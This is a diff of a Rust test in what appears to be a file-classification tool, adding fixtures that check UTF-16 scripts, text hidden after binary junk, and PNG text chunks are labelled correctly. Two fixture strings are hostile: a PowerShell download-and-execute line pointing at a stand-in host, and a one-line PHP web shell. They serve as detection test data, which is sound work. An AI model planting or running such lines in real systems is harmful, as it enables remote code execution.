@@ -537,13 +537,48 @@ fn a_binary_file_is_binary_content_only_when_no_side_is_text() {
         b.push(seed);
         b
     };
+    // A UTF-16LE script, with and without its byte-order mark.
+    let utf16 = |bom: bool, text: &str| {
+        let mut b: Vec<u8> = if bom { vec![0xff, 0xfe] } else { vec![] };
+        b.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+        b
+    };
+    let script = "Invoke-WebRequest http://example.invalid/x.ps1 | Invoke-Expression\r\n";
+    // Bytes of no known format, with no run of text in them, then (at head) a script.
+    let junk: Vec<u8> = (0..70_000u32)
+        .map(|i| {
+            if i % 7 == 0 {
+                0
+            } else {
+                (i % 251) as u8 | 0x80
+            }
+        })
+        .collect();
+    let mut junk_then_php = junk.clone();
+    junk_then_php.extend_from_slice(b"<?php system($_GET[\"c\"]); ?>");
+    // A PNG whose text chunk holds a sentence: a known format's text is its metadata.
+    let mut png_with_text = png(5);
+    png_with_text.extend((0..2_000u32).map(|i| (i % 97) as u8 | 0x80));
+    png_with_text.extend_from_slice(b"tEXtComment\0made with a tool that writes long comments");
     let (repo, _, _) = sources();
-    repo.write("logo.png", png(1))
+    repo.write("setup.ps1", utf16(true, "Write-Host hi\r\n"))
+        .write("nobom.ps1", utf16(false, "Write-Host hi\r\n"))
+        .write("page.php", junk.clone())
+        .write("noise.bin", junk.clone())
+        .write("text-chunk.png", png(6))
+        .write("logo.png", png(1))
         .write("nul.py", b"# \0\nx = 1\n")
         .write("blob.bin", [0u8, 1, 2, 0xfe, 0xff, 0x80, 0x90])
         .write("was-text.png", "plain text\n");
     repo.commit("binary files");
-    repo.write("logo.png", png(2))
+    let mut noise = junk;
+    noise[1] ^= 0x01;
+    repo.write("setup.ps1", utf16(true, script))
+        .write("nobom.ps1", utf16(false, script))
+        .write("page.php", junk_then_php)
+        .write("noise.bin", noise)
+        .write("text-chunk.png", png_with_text)
+        .write("logo.png", png(2))
         .write("nul.py", b"# \0\nx = 2\n")
         .write("blob.bin", [0u8, 3, 4, 0xfe, 0xff, 0x81, 0x91])
         .write("was-text.png", png(3))
@@ -566,6 +601,14 @@ fn a_binary_file_is_binary_content_only_when_no_side_is_text() {
         ("was-text.png", Text),
         // Code behind a GIF's magic bytes: a format named, but the content is text.
         ("web/app.js", Text),
+        // UTF-16 text is text, with or without a byte-order mark.
+        ("setup.ps1", Text),
+        ("nobom.ps1", Text),
+        // A script after 70,000 bytes of no known format is a run of text in it.
+        ("page.php", Text),
+        ("noise.bin", Binary),
+        // A known format's text chunk is metadata.
+        ("text-chunk.png", Binary),
     ];
     for (path, sides) in cases {
         assert_eq!(reader.binary_sides(path).unwrap(), sides, "{path}");
